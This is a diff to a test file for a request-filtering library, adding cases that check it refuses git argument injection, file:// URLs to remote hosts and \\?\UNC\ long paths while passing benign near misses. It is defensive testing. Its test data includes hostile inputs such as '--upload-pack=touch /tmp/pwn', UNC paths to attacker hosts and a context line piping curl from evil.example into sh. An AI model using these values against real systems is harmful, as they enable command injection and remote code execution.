@@ -3,8 +3,10 @@
  * classes and word groups included, so a rule no value can reach fails here): `..././` traversal filter evasion,
  * UNC paths to another host (`\\attacker.example\share`, `file://\\evil\share`), the Docker/Kubernetes secrets
  * mount, backslash-escaped command words after a separator or in a substitution (`;w\ho\am\i`), glob-spelled
- * command paths (`/???/??t /???/p??s??`) and ssh `-oProxyCommand=` argument injection. Each has near-miss benign
- * values that must keep passing; two attacks and their near misses also go through a real Express server.
+ * command paths (`/???/??t /???/p??s??`), ssh `-oProxyCommand=` and git `--upload-pack=` / `-c core.sshCommand=`
+ * argument injection, `file://host/share` URLs (Windows opens them as `\\host\share`) and the long-path spelling
+ * `\\?\UNC\host\share`. Each has near-miss benign values that must keep passing; some attacks and their near
+ * misses also go through a real Express server.
  */
 import request from 'supertest';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -57,6 +59,37 @@ const GLOB_NEAR_MISSES = ['what??? ok!!', '/**/*.js', '/api/*', '/search?q=1', '
 const SSH_OPTIONS = ['-oProxyCommand=id', 'x -oProxyCommand=id', '-o ProxyCommand=curl evil.example|sh', '-oLocalCommand=id', '"-oProxyCommand=touch /tmp/x"'];
 const SSH_NEAR_MISSES = ['use the -o flag', 'ssh -o StrictHostKeyChecking=no host', '-o output.txt', 'set ProxyCommand in your ssh config file', 'foo-oProxyCommand=x'];
 
+const GIT_OPTIONS = [
+  '--upload-pack=touch /tmp/pwn',
+  '--upload-pack=id',
+  '-c core.sshCommand=id',
+  '--config=core.sshCommand=id',
+  'https://github.com/x/y.git --upload-pack=id',
+  '--receive-pack=id',
+  '"--upload-pack=id"',
+  '--config core.sshCommand=id',
+];
+const GIT_NEAR_MISSES = [
+  'use --upload-pack to set the path',
+  '-u id',
+  'set core.sshCommand in your git config',
+  'foo--upload-pack=x',
+  'https://github.com/org/upload-pack.git',
+  'price-c core.x=1',
+];
+
+const FILE_HOST = ['file://evil.example/share/x', 'file://10.0.0.5/c$/x', '  file://evil-host/public/a.txt', 'FILE://Attacker.Example/share', 'file:////evil.example/share/x'];
+const FILE_HOST_NEAR_MISSES = [
+  'file:///home/me/x',
+  'file:///C:/Users/me/notes.txt',
+  'file://C:/Users/me/notes.txt',
+  'see file://server/share in the docs',
+  'file://localhost-docs',
+];
+
+const LONG_UNC = ['\\\\?\\UNC\\attacker.example\\share\\x', '\\\\?\\unc\\evil\\share', '\\\\.\\UNC\\10.0.0.5\\c$\\x', '  \\\\?\\UNC\\evil-host\\public'];
+const LONG_UNC_NEAR_MISSES = ['\\\\?\\C:\\Users\\me\\file.txt', '\\\\.\\pipe\\name', 'the prefix \\\\?\\UNC\\ is for long paths', '\\\\?\\UNC'];
+
 describe('review gaps: attacks refused through createShield().check()', () => {
   it('refuses ..././ traversal (stripping ../ once leaves ../); passes dots in prose', async () => {
     expect(await verdictsOf(TRAVERSAL_EVASION)).toEqual(all(TRAVERSAL_EVASION, false));
@@ -88,6 +121,21 @@ describe('review gaps: attacks refused through createShield().check()', () => {
     expect(await verdictsOf(SSH_NEAR_MISSES)).toEqual(all(SSH_NEAR_MISSES, true));
   });
 
+  it('refuses git --upload-pack= and -c core.sshCommand= argument injection; passes the options named in prose', async () => {
+    expect(await verdictsOf(GIT_OPTIONS)).toEqual(all(GIT_OPTIONS, false));
+    expect(await verdictsOf(GIT_NEAR_MISSES)).toEqual(all(GIT_NEAR_MISSES, true));
+  });
+
+  it('refuses a file:// URL to another host (a UNC path to Windows); passes local file URLs', async () => {
+    expect(await verdictsOf(FILE_HOST)).toEqual(all(FILE_HOST, false));
+    expect(await verdictsOf(FILE_HOST_NEAR_MISSES)).toEqual(all(FILE_HOST_NEAR_MISSES, true));
+  });
+
+  it('refuses the long-path spelling \\\\?\\UNC\\host\\share; passes other long and device paths', async () => {
+    expect(await verdictsOf(LONG_UNC)).toEqual(all(LONG_UNC, false));
+    expect(await verdictsOf(LONG_UNC_NEAR_MISSES)).toEqual(all(LONG_UNC_NEAR_MISSES, true));
+  });
+
   it('names the rule that refuses each family', async () => {
     const detail = async (v: string): Promise<string> => (await checkBody({ q: v }, PAYLOAD)).detail;
     expect(await detail('..././..././etc/passwd')).toContain('traversal-dot-dot-segment@body.q');
@@ -96,6 +144,12 @@ describe('review gaps: attacks refused through createShield().check()', () => {
     expect(await detail(';w\\ho\\am\\i')).toContain('cmdi-chained-command@body.q');
     expect(await detail('/???/??t /???/??ss??')).toContain('cmdi-command-line@body.q');
     expect(await detail('-oProxyCommand=id')).toContain('cmdi-command-line@body.q');
+    expect(await detail('--upload-pack=touch /tmp/pwn')).toContain('cmdi-command-line@body.q');
+    expect(await detail('-c core.sshCommand=id')).toContain('cmdi-command-line@body.q');
+    expect(await detail('file://evil.example/share/x')).toContain('traversal-windows-system-path@body.q');
+    expect(await detail('\\\\?\\UNC\\attacker.example\\share\\x')).toContain('traversal-windows-system-path@body.q');
+    // Unchanged: a file URL to localhost is refused by the SSRF rule, as before.
+    expect(await detail('file://localhost/etc/passwd')).toContain('ssrf-internal-host@body.q');
   });
 });
 
@@ -122,5 +176,13 @@ describe('review gaps through Express', () => {
     expect((await post({ host: '/???/??t /???/??ss??' })).status).toBe(403);
     expect((await post({ note: 'use the -o flag' })).status).toBe(200);
     expect((await post({ note: 'what??? ok!!' })).status).toBe(200);
+  });
+
+  it('refuses --upload-pack=, file://host/share and \\\\?\\UNC\\ in a JSON body; passes the near misses', async () => {
+    expect((await post({ repo: '--upload-pack=touch /tmp/pwn' })).status).toBe(403);
+    expect((await post({ avatar: 'file://evil.example/share/x' })).status).toBe(403);
+    expect((await post({ avatar: '\\\\?\\UNC\\attacker.example\\share\\x' })).status).toBe(403);
+    expect((await post({ note: 'use --upload-pack to set the path' })).status).toBe(200);
+    expect((await post({ avatar: 'file:///home/me/x' })).status).toBe(200);
   });
 });
